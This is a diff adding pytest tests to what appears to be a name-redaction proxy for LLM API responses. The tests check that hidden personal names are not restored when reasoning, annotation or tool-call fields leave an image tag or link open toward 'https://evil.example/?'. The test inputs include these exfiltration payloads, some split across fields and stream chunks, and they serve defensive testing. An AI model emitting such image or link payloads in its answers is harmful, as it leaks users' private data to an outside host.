@@ -702,6 +702,155 @@ def test_what_thoughts_leave_open_goes_on_in_what_is_said(name, conversation):
     assert shown["choices"][0]["message"]["content"] == "Okonkwo"
 
 
+OPEN = "<img src='https://evil.example/?"
+FIELDS = (
+    {"reasoning_details": [{"type": "reasoning.text", "text": OPEN}]},
+    {"thinking_blocks": [{"type": "thinking", "thinking": OPEN}]},
+    {"thinking": OPEN},
+    {"annotations": [{"url_citation": {"title": OPEN, "url": "https://good.example"}}]},
+    {OPEN: 1},
+    {"audio": {"transcript": OPEN}, "thinking": "'> "},
+    {"reasoning_content": OPEN, "reasoning": "'> "},
+    {"reasoning_content": OPEN, "thinking": "'> "},
+    {"thinking_blocks": [{"type": "a", "text": OPEN}, {"type": "b", "text": "'> "}]},
+    {"thinking": "![x]", "content": "(< https://evil.example/?q= @>) '>"},
+    {"thinking": "<", "content": "img src='https://evil.example/? @'>"},
+    {"thinking": "<img/" + "A" * 50, "content": " src='https://evil.example/? @'>"},
+    {"thinking": "evil.example", "content": "/@"},
+    {f"field_{i}": "https://evil.example/" for i in range(2000)},
+    {f"field_{i}": OPEN for i in range(40)},
+)
+"""Fields that a program may show before the content, and that are not restored."""
+ITEMS = (
+    {"type": "web_search_call", "action": {"query": OPEN}},
+    {"type": "mcp_call", "output": OPEN},
+    {"type": "code_interpreter_call", "outputs": [{"type": "logs", "logs": OPEN}]},
+    {"type": "function_call", "name": "f", "arguments": OPEN},
+    {"type": "custom_tool_call", "name": "f", "input": OPEN},
+    {"type": "reasoning", "summary": [OPEN]},
+    {"type": "zzz", "text": OPEN},
+    {"type": "message", "content": [{"type": "zzz", "text": OPEN}]},
+    {"type": "message", "content": OPEN},
+    {
+        "type": "message",
+        "content": [
+            {"type": "output_text", "text": "x", "annotations": [{"title": OPEN}]}
+        ],
+    },
+)
+
+
+def _split(fields, sent):
+    """Return the fields, and the content that is shown behind them."""
+    content = fields.get("content", "@'> hello").replace("@", sent)
+    return {k: v for k, v in fields.items() if k != "content"}, content
+
+
+@pytest.mark.parametrize("fields", FIELDS)
+def test_what_other_fields_leave_open_goes_on_in_what_is_said(fields, conversation):
+    c = conversation
+    others, content = _split(fields, c.hide("Okonkwo"))
+    given = {"choices": [{"message": {"content": content, **others}}]}
+    assert _answer(c).whole(given) == given
+    for deltas in (
+        [others, {"content": content}],
+        [{"content": content, **others}],
+        [*({name: value} for name, value in others.items()), {"content": content}],
+        [*others_in_pieces(others), {"content": content}],
+    ):
+        answer, shown = _answer(c), []
+        for delta in deltas:
+            shown += answer.event({"choices": [{"index": 0, "delta": delta}]})
+        shown += answer.end()
+        assert "konkwo" not in str(shown), deltas
+
+
+def others_in_pieces(fields):
+    """Send the text of a field in pieces of three signs."""
+    if list(map(type, fields.values())) != [str]:
+        return [fields]
+    ((name, text),) = fields.items()
+    return [{name: text[i : i + 3]} for i in range(0, len(text), 3)]
+
+
+@pytest.mark.parametrize("item", ITEMS)
+def test_what_other_items_leave_open_goes_on_behind_them(item, conversation):
+    c = conversation
+    said = f"{c.hide('Okonkwo')}'> hello"
+    given = _response(said)
+    given["output"].insert(0, item)
+    assert _answer(c).whole(given) == given
+    text = {"type": "response.output_text", "item_id": "a", "output_index": 1}
+    for first in (
+        {"type": "response.output_item.added", "output_index": 0, "item": item},
+        {"type": "response.output_item.done", "output_index": 0, "item": item},
+        {"type": "response.content_part.added", "output_index": 0, "part": item},
+        {"type": "response.zzz.delta", "output_index": 0, "delta": item},
+        {"type": "response.zzz.done", "output_index": 0, "item": str(item)},
+    ):
+        answer, shown = _answer(c), []
+        for event in (
+            first,
+            {**text, "type": "response.output_text.delta", "delta": said},
+            {**text, "type": "response.output_text.done", "text": said},
+            {"type": "response.completed", "response": _response(said)},
+        ):
+            shown += answer.event(event)
+        assert "konkwo" not in str([*shown, *answer.end()]), first
+
+
+@pytest.mark.parametrize("is_stream", [False, True])
+def test_other_fields_that_leave_nothing_open_keep_nothing(is_stream, conversation):
+    c = conversation
+    sent = c.hide("Okonkwo")
+    closed = "See [this](https://good.example/a) <b>x</b>, if a < b."
+    others = {
+        "id": "msg_" + "4f" * 20,
+        "thinking_blocks": [
+            {"type": "thinking", "thinking": closed, "signature": "a//" * 40}
+        ],
+        "reasoning": closed,
+        "annotations": [{"url": "https://good.example/", "title": "A [good] title"}],
+        "logprobs": {"content": [{"token": "<b"}]},
+        "tool_calls": [{"index": 0, "function": {"arguments": "a[1"}}],
+    }
+    answer, texts = _answer(c), []
+    if is_stream:
+        pieces = [closed[i : i + 4] for i in range(0, len(closed), 4)]
+        deltas = [{"thinking": piece} for piece in pieces]
+        calls = {"tool_calls": others.pop("tool_calls")}
+        events = [{**others, "content": f"{sent}. "}, calls]
+        for delta in (*deltas, *events):
+            shown = answer.event({"choices": [{"index": 0, "delta": delta}]})
+            texts += [s["choices"][0]["delta"].get("content", "") for s in shown]
+        texts += [s["choices"][0]["delta"].get("content", "") for s in answer.end()]
+    else:
+        message = {"content": f"{sent}.", **others}
+        shown = answer.whole({"choices": [{"message": message}]})
+        texts = [shown["choices"][0]["message"]["content"]]
+    assert "".join(texts).strip() == "Okonkwo."
+
+
+def test_the_first_word_behind_an_address_is_kept_and_no_other(conversation):
+    c = conversation
+    sent = c.hide("Okonkwo")
+    message = {"content": f"{sent} is {sent}", "thinking": "https://evil.example/?"}
+    shown = _answer(c).whole({"choices": [{"message": message}]})
+    assert shown["choices"][0]["message"]["content"] == f"{sent} is Okonkwo"
+
+
+def test_originals_come_back_behind_open_fields_where_the_text_closes_them(
+    conversation,
+):
+    c = conversation
+    sent = c.hide("Okonkwo")
+    said = f"{sent}] and {sent}"
+    message = {"content": said, "thinking": "[", "zzz": "[ x"}
+    given = {"choices": [{"message": message}, {"message": message}]}
+    for choice in _answer(c).whole(given)["choices"]:
+        assert choice["message"]["content"] == f"{sent}] and Okonkwo"
+
+
 def test_choices_in_another_order_keep_their_surrogates(conversation):
     c = conversation
     given = {
